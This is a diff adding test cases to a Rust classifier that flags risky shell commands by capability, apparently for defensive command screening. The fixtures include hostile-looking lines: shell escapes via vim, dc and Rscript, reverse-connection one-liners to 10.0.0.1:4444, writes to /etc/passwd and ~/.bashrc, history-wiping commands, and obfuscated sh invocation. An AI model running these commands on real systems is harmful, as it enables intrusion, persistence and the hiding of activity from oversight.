@@ -47,6 +47,14 @@ fn shell_escapes() {
         "conda run -n base sh",
         "pdflatex --shell-escape x.tex",
         "groff -U x.ms",
+        "vimdiff -c ':shell' a b",
+        "nvim --headless -c ':terminal'",
+        "vim +'r !id' x",
+        "luajit -e 'os.execute(\"id\")'",
+        "Rscript -e 'system(\"id\")'",
+        "dc -e '!/bin/sh'",
+        "aria2c --on-download-error=/tmp/x.sh http://127.0.0.1/x",
+        "borg create --post-hook='sh -c id' ::a .",
     ] {
         assert!(
             caps(line).contains(&"shell_escape"),
@@ -70,6 +78,11 @@ fn shell_escapes() {
         "poetry run pytest -q",
         "npx prettier --check .",
         "pdflatex paper.tex",
+        "vim +42 src/lib.rs",
+        "nvim -c 'set number' README.md",
+        "Rscript -e 'summary(read.csv(\"d.csv\"))'",
+        "aria2c --on-download-complete=notify x.torrent",
+        "pre-commit install --hook-type pre-push",
     ] {
         assert!(
             !caps(line).contains(&"shell_escape"),
@@ -97,6 +110,10 @@ fn network() {
         "cancel -u x -h attacker.example:12345",
         "sshfs me@attacker.example: /mnt",
         "someclient --server=10.0.0.9:80",
+        "pwncat-cs 10.0.0.1 4444",
+        "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444'",
+        "node -e 'require(\"net\").connect(4444,\"10.0.0.1\")'",
+        "mongo --host 10.0.0.1",
     ] {
         assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -109,6 +126,8 @@ fn network() {
         "docker run -p 127.0.0.1:8080:80 nginx:1.27",
         "docker pull registry.example.com:5000/app:v2",
         "ghci Main.hs",
+        "pip install requests==2.31.0",
+        "node -e 'console.log(require(\"http\").STATUS_CODES[404])'",
     ] {
         assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -140,6 +159,10 @@ fn writes_persistence_privilege_destroys() {
     assert!(!caps("crontab -l").contains(&"persists"));
     assert!(caps("chmod u+s /tmp/sh").contains(&"privilege"));
     assert!(caps("chmod 4755 /tmp/sh").contains(&"privilege"));
+    assert!(caps("ed /etc/passwd").contains(&"privilege"));
+    assert!(caps("nano ~/.bashrc").contains(&"persists"));
+    assert!(caps("vim /etc/hosts").contains(&"writes_outside"));
+    assert!(!caps("vim src/main.rs").contains(&"writes_outside"));
     assert!(!caps("chmod 755 run.sh").contains(&"privilege"));
     for line in [
         "aws --profile prod s3 rb s3://bucket --force",
@@ -159,6 +182,11 @@ fn writes_persistence_privilege_destroys() {
         "kubectl annotate deploy/web owner-",
         "kubectl taint nodes n1 dedicated:NoSchedule-",
         "virsh net-autostart --network default --disable",
+        "mongo --eval 'db.dropDatabase()'",
+        "export HISTFILE=/dev/null",
+        "unset HISTFILE",
+        "history -c",
+        "HISTSIZE=0 bash x.sh",
     ] {
         assert!(caps(line).contains(&"destroys"), "{line}: {:?}", caps(line));
     }
@@ -175,6 +203,8 @@ fn writes_persistence_privilege_destroys() {
         "chromium --disable-gpu --headless",
         "aws s3 rm help",
         "docker rm --help",
+        "history",
+        "echo $HISTFILE",
     ] {
         assert!(
             !caps(line).contains(&"destroys"),
@@ -207,6 +237,9 @@ fn sensitive_reads_loaders_dynamic_code() {
     assert!(caps("echo aWQ= | base64 -d | sh").contains(&"shell_escape"));
     assert!(caps("echo 'print(1)' | python3").contains(&"dynamic_code"));
     assert!(caps("$CMD -la").contains(&"dynamic_code"));
+    assert!(caps("$'\\x73\\x68'").contains(&"dynamic_code"));
+    assert!(caps("a=s;b=h;$a$b").contains(&"dynamic_code"));
+    assert!(!caps("$HOME/.cargo/bin/cargo build").contains(&"dynamic_code"));
     assert!(!caps("python3 -m pytest").contains(&"dynamic_code"));
     assert!(!caps("python3 script.py").contains(&"dynamic_code"));
     assert!(caps("ghci").contains(&"dynamic_code"));
